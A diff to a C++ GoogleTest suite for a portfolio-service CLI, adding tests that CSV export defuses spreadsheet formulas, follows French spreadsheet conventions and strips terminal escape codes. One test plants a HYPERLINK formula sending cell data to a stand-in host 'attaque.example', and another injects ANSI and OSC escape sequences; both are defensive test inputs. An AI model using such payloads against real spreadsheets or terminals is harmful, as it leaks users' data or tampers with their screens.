@@ -16,9 +16,11 @@ namespace {
 
 using namespace portfolio::v1;  // NOLINT: the service's messages
 using grpc::ServerContext;
+using testing::AnyOf;
 using testing::ElementsAre;
 using testing::HasSubstr;
 using testing::Not;
+using testing::StartsWith;
 using testing::UnorderedElementsAre;
 
 class FakePortfolio : public PortfolioService::Service {
@@ -30,7 +32,8 @@ class FakePortfolio : public PortfolioService::Service {
     for (int i = from; i < from + size && i < projects; ++i) {
       Project* project = reply->add_projects();
       project->set_name("projects/p" + std::to_string(i));
-      project->set_title("Projet n° " + std::to_string(i));
+      project->set_title(title.empty() ? "Projet n° " + std::to_string(i) : title);
+      project->mutable_budget()->mutable_allocated()->set_units(budget);
       project->set_kind(PROJECT_KIND_STATE_STARTUP);
       project->set_phase(PHASE_CONSTRUCTION);
       project->set_primary_incubator("incubators/sud");
@@ -107,6 +110,8 @@ class FakePortfolio : public PortfolioService::Service {
   }
 
   int projects = 3;
+  std::string title;
+  std::int64_t budget = 0;
   ListProjectsRequest list;
   UpdateProjectRequest update;
   CorrectPhaseRequest correct;
@@ -225,6 +230,46 @@ TEST_F(CommandsTest, ExportsCsv) {
   EXPECT_EQ(Pep({"export", "csv", "-"}), ExitCode::kOk);
   EXPECT_THAT(out_.str(), HasSubstr("projects/p2,Projet n° 2,STATE_STARTUP,CONSTRUCTION,"));
   EXPECT_EQ(Pep({"export", "csv", folder_ + "/nowhere/projects.csv"}), ExitCode::kNotFound);
+}
+
+TEST_F(CommandsTest, ASpreadsheetComputesNothingOfWhatIsText) {
+  service_.title = "=HYPERLINK(\"https://attaque.example/?\"&A1;\"Ici\")";
+  service_.budget = -1500;
+  for (const std::vector<std::string>& command : {std::vector<std::string>{"export", "csv", "-"},
+                                                  {"-o", "csv", "projects", "list"},
+                                                  {"-o", "csv", "projects", "list", "--all"}}) {
+    EXPECT_EQ(Pep(command), ExitCode::kOk);
+    EXPECT_THAT(
+        out_.str(),
+        HasSubstr("projects/p0,\"'=HYPERLINK(\"\"https://attaque.example/?\"\"&A1;\"\"Ici\"\")\",STATE_STARTUP,"));
+    EXPECT_THAT(out_.str(), HasSubstr(",-1500.00,")) << "a number is a number";
+  }
+}
+
+TEST_F(CommandsTest, ASpreadsheetSetToFrenchHasItsShape) {
+  service_.title = "Berges ; crues";
+  service_.budget = 1500;
+  for (const std::vector<std::string>& command :
+       {std::vector<std::string>{"export", "csv", "-", "--spreadsheet"}, {"--spreadsheet", "projects", "list"}}) {
+    EXPECT_EQ(Pep(command), ExitCode::kOk);
+    EXPECT_THAT(out_.str(), StartsWith("\ufeffname;title;kind;"));
+    EXPECT_THAT(out_.str(), HasSubstr("projects/p0;\"Berges ; crues\";STATE_STARTUP;"));
+    EXPECT_THAT(out_.str(), HasSubstr(";1500,00;"));
+  }
+}
+
+TEST_F(CommandsTest, ATerminalObeysNothingOfWhatIsText) {
+  service_.title = "a\033[31mb\033]0;x\a\u009b2J";
+  EXPECT_EQ(Pep({"export", "csv", "-"}), ExitCode::kOk);
+  EXPECT_THAT(out_.str(), HasSubstr(service_.title)) << "a file has it byte for byte";
+  out_is_tty_ = true;
+  for (const std::vector<std::string>& command : {std::vector<std::string>{"export", "csv", "-"},
+                                                  {"-o", "csv", "projects", "list"},
+                                                  {"projects", "list"},
+                                                  {"-o", "json", "projects", "list"}}) {
+    EXPECT_EQ(Pep(command), ExitCode::kOk);
+    EXPECT_THAT(out_.str(), Not(AnyOf(HasSubstr("\033"), HasSubstr("\a"), HasSubstr("\u009b")))) << command[0];
+  }
 }
 
 }  // namespace
